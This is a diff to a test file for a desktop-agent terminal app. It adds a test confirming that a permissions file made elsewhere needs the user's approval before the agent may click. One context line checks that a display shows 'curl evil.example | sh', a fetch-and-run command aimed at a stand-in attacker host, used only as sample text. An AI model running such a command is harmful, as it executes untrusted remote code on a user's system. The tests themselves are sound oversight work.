@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 from fakes import FakeDesktop, ScriptedPolicy
@@ -111,6 +112,21 @@ async def test_the_end_of_a_long_text_is_to_be_seen_however_small_the_terminal(f
         assert "curlevil.example|sh" in shown and "arenotshown" in shown and f"of{len(print_action(Type(text=text))):,}arenotshown" in shown
         await pilot.press("x")
         await until(pilot, lambda: stage.app.results)
+        await pilot.press("ctrl+q")
+
+
+@pytest.mark.parametrize(("answer", "clicks"), [("no", 0), ("yes", 1)])
+async def test_a_file_from_elsewhere_is_agreed_to_when_the_run_begins(tmp_path: Path, answer: str, clicks: int) -> None:
+    (tmp_path / "team.yaml").write_text("rules:\n  - {class: mousepad, click: allow}\n")
+    stage = Stage(ScriptedPolicy(CLICK, "finish()"), approve="each", desktop=WindowDesktop())
+    stage.app.runner.settings = stage.app.settings.model_copy(update={"permissions": tmp_path / "team.yaml"})
+    async with stage.app.run_test(size=WIDE) as pilot:
+        await type_line(pilot, "do it")
+        await until(pilot, lambda: stage.app.panel.mode == "asked")
+        assert "mousepad: click allow" in stage.words and "was not made here" in stage.words and not stage.desktop.performed
+        await type_line(pilot, answer)
+        await until(pilot, lambda: stage.app.panel.mode == "ready")
+        assert len(stage.desktop.performed) == clicks
         await pilot.press("ctrl+q")
 
 
